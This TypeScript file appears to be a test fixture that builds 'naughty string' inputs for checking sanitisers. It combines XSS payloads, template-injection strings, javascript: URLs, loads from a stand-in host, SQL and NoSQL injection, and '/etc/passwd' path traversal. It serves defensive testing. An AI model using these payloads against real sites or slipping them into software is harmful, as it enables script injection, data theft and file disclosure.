/** Text that wants to be more than text. Made by combination, so that no single filter knows them all; ours to extend. */

/** What each of them calls when it runs, and where each of them would send to. */
export const FIRED = '__fired'
const ELSEWHERE = 'http://elsewhere.invalid'

const HANDLERS = [
  `<img src=x onerror=${FIRED}()>`,
  `<svg onload=${FIRED}()>`,
  `<body onload=${FIRED}()>`,
  `<input autofocus onfocus=${FIRED}()>`,
  `<details open ontoggle=${FIRED}()>`,
  `<video><source onerror=${FIRED}()></video>`,
  `<audio src=x onerror=${FIRED}()>`,
  `<marquee onstart=${FIRED}()>x</marquee>`,
  `<select autofocus onfocus=${FIRED}()>`,
  `<div style="animation:a" onanimationstart=${FIRED}()>`,
  `<math><mtext><img src=x onerror=${FIRED}()></mtext></math>`,
  `<svg><animate onbegin=${FIRED}() attributeName=x></svg>`,
]
const SCRIPTS = [
  `<script>${FIRED}()</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<iframe srcdoc="<script>parent.${FIRED}()</script>"></iframe>`,
  `<iframe src="javascript:parent.${FIRED}()"></iframe>`,
  `<object data="javascript:${FIRED}()"></object>`,
  `<embed src="javascript:${FIRED}()">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<link rel=prefetch href="${ELSEWHERE}/b">`,
  `<style>@import "${ELSEWHERE}/c.css"</style>`,
  `<form action="${ELSEWHERE}"><button autofocus>x</button></form>`,
]
const ADDRESSES = [
  `javascript:${FIRED}()`,
  `JaVaScRiPt:${FIRED}()`,
  `java\tscript:${FIRED}()`,
  `&#106;avascript:${FIRED}()`,
  `data:text/html,<script>${FIRED}()</script>`,
  `vbscript:${FIRED}()`,
  `[click](javascript:${FIRED}())`,
  `![x](${ELSEWHERE}/pixel.png)`,
  `<a href="javascript:${FIRED}()">x</a>`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `https://example.com/"onmouseover="${FIRED}()`,
  `https://example.com/'><img src=x onerror=${FIRED}()>`,
]
const TEMPLATES = [
  `{{constructor.constructor('${FIRED}()')()}}`,
  `\${${FIRED}()}`,
  `#{${FIRED}()}`,
  `<%= ${FIRED}() %>`,
  `$t(common.close)`,
  `{{name}} {{count}}`,
]
const WRAPS: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><${payload.replace(/^</, '')}`,
  (payload) => `'>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `--><!-- ${payload}`,
  (payload) => payload.replaceAll('<', '\u003c').toUpperCase().replaceAll(FIRED.toUpperCase(), FIRED),
]

/** Nothing of it runs: it only looks, measures or sorts strangely. */
const ODD = [
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  '-1',
  '1e309',
  '0x0',
  "' OR 1=1 --",
  '{"$gt":""}',
  '../../../etc/passwd',
  '%00%0a',
  'a\u0000b',
  '\u202Egnp.exe',
  '\u2066left\u2069',
  '\u200B\u200C\u200D',
  '\uFEFF',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '𝕿𝖍𝖊',
  'ﷺ',
  'ᚠᛇᚻ',
  'الكل في المجمُوعة (5)',
  'שלום world',
  'ก็็็็็็็็็็',
  'ẞßſ İiı',
  'a'.repeat(90),
  'W'.repeat(90),
  '\u{10FFFF}',
  '﷽'.repeat(10),
  'line\nbreak\r\nand\ttab',
  'http://a/%%30%30',
  'Ω≈ç√∫˜µ≤≥÷',
  '(｡◕ ∀ ◕｡)',
  'CON',
  'LPT1',
]

const attacks = [...HANDLERS, ...SCRIPTS, ...ADDRESSES, ...TEMPLATES]

/** Every attack in every disguise. */
export const PAYLOADS: readonly string[] = WRAPS.flatMap((wrap) => attacks.map(wrap))

export const NAUGHTY: readonly string[] = [...PAYLOADS, ...ODD]
